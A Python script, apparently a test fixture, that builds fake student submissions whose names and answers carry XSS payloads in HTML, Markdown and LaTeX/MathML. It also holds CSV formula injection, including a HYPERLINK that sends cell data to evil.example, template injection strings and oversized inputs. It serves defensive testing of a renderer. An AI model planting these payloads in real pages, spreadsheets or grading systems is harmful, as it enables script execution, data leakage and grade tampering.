"""Build a hostile class under DEST: three demo students plus students whose folder names and
written answers (answers/8-3.md) carry HTML/JS/Markdown/LaTeX/MathML/CSV payloads.
Usage: python build_class.py DEST"""
import os, shutil, sys

dest = sys.argv[1]
demo = "/work/main/examples/submissions"
shutil.rmtree(dest, ignore_errors=True)
os.makedirs(dest)
for n in ("alice", "bob", "dave"):
    shutil.copytree(os.path.join(demo, n), os.path.join(dest, n))
code = open(os.path.join(demo, "alice", "ex8_3.py")).read()
hdr = "# Exercise 8-3\n\n<!-- Write your answer below this line. -->\n\n"

P = {
 "xss_html": "<script>window.__pwn=1;document.title='PWNED'</script><img src=x onerror=\"window.__pwn=2\">"
             "<svg onload=\"window.__pwn=3\"></svg><iframe src=\"javascript:window.top.__pwn=4\"></iframe>\n\n"
             "<a href=\"javascript:window.__pwn=5\">clickme</a>\n\n"
             "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">\n\n"
             "<base href=\"http://evil.example/\">\n\n"
             "<form action=\"/part/10/base\" method=post id=grade><input name=base value=2><button>x</button></form>\n\n"
             "<style>body{display:none}</style>\n\n<object data=\"http://evil.example/\"></object><embed src=x>\n\n"
             "<math><maction actiontype=\"statusline\" href=\"javascript:window.__pwn=23\">m</maction></math>\n\n"
             "<details open ontoggle=\"window.__pwn=24\">d</details>\n\n<!--\n\n<textarea><p title=\"</textarea><img src=x onerror=window.__pwn=25>\">\n",
 "xss_md": "[click me](javascript:window.__pwn=6)\n\n[c2](JaVaScRiPt:window.__pwn=7)\n\n[c3](&#106;avascript:window.__pwn=8)\n\n"
           "![img](x\" onerror=\"window.__pwn=9)\n\n<javascript:alert(1)>\n\n"
           "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n[ref]: javascript:window.__pwn=10\n\n[r][ref]\n\n"
           "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n\n[vb](vbscript:msgbox)\n\n[tab](java\tscript:window.__pwn=11)\n\n"
           "[http](http://evil.example/phish) <http://evil.example/auto> www.evil.example\n\n"
           "[rel](/part/10/base?base=2) [rel2](//evil.example/x)\n\n"
           "```html\n<script>window.__pwn=26</script>\n```\n\n| a | b |\n|---|---|\n| <img src=x onerror=window.__pwn=27> | x |\n\n"
           "<div markdown=1>[x](javascript:window.__pwn=28)</div>\n\n[x](<javascript:window.__pwn=29>)\n",
 "xss_math": "$\\text{<script>window.__pwn=12</script>}$\n\n$$\\href{javascript:window.__pwn=13}{click}$$\n\n"
             "$x \\href{http://evil.example/}{y}$\n\n$\\style{background:url(javascript:alert(1))}{x}$\n\n"
             "$\\class{x\" onmouseover=\"window.__pwn=14}{z}$\n\n$\\unicode{<img src=x onerror=window.__pwn=15>}$\n\n"
             "$$\\mathrm{</math><img src=x onerror=window.__pwn=16>}$$\n\n$\\url{javascript:alert(1)}$\n\n"
             "$\\htmlId{x}{y}$ $\\data{onclick=alert(1)}{z}$\n\n$a</span><script>window.__pwn=17</script>$\n\n"
             "$$\\begin{array}{c}<svg onload=window.__pwn=18>\\end{array}$$\n\n"
             "$\\operatorname{<img src=x onerror=window.__pwn=19>}$\n\n$\\mathbb{\"><img src=x onerror=window.__pwn=20>}$\n\n"
             "$\\texttt{&lt;img src=x onerror=window.__pwn=21&gt;}$\n\n$x^{<b onmouseover=window.__pwn=22>y</b>}$\n\n"
             "$\\color{red}{x}$ $\\colorbox{url(javascript:1)}{x}$ $\\mathcolor{\"onload=\"x}{y}$\n\n"
             "$\\includegraphics{http://evil.example/x.png}$ $\\require{action}\\toggle{a}{b}\\endtoggle$\n\n"
             "$\\begin{matrix}\\text{</mtext><script>window.__pwn=31</script>}\\end{matrix}$\n\n"
             "$\\text{$\\href{javascript:window.__pwn=32}{x}$}$\n\n$\\def\\a{\\a}\\a$\n\n$\\mathchoice{a}{b}{c}{d}$ $\\lt script\\gt$\n",
 "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n",
 "huge": "A" * 3_000_000 + "\n",
 "unicode": "\u202egnp.exe\u202c \ufeff zero\u200bwidth \U0001F600 " + "\u0301" * 5000 + "\n\n" + "[" * 20000 + "x" + "]" * 20000
            + "\n" + ">" * 10000 + " nested\n" + "*" * 50000 + "\n" + "- " * 5000 + "x\n" + "<" * 20000 + "\n",
 "deepmath": "$" + "{" * 5000 + "x" + "}" * 5000 + "$\n\n$$" + "\\frac{1}{" * 3000 + "x" + "}" * 3000 + "$$\n\n"
             + "$" + "x^" * 20000 + "x$\n\n$$" + "\\sqrt{" * 3000 + "x" + "}" * 3000 + "$$\n",
}
for name, body in P.items():
    d = os.path.join(dest, name)
    os.makedirs(d + "/answers")
    open(d + "/ex8_3.py", "w").write(code)
    open(d + "/answers/8-3.md", "w", encoding="utf-8").write(hdr + body)

names = ['<img src=x onerror=window.__pwn=30>', '=HYPERLINK("http:evil",1)', "x'\";alert(1)", '{{7*7}}',
         '@SUM(1+1)', '+cmd', '-2+3', '"><script>window.__pwn=33<\\script>', '\tTAB=1+1']
for n in names:
    d = os.path.join(dest, n)
    os.makedirs(d + "/answers")
    open(d + "/ex8_3.py", "w").write(code)
    open(d + "/answers/8-3.md", "w").write(hdr + "student " + n + "\n\n{{7*7}} {% raw %} ${7*7} <b>bold</b>\n")
print("class in", dest, sorted(os.listdir(dest)))
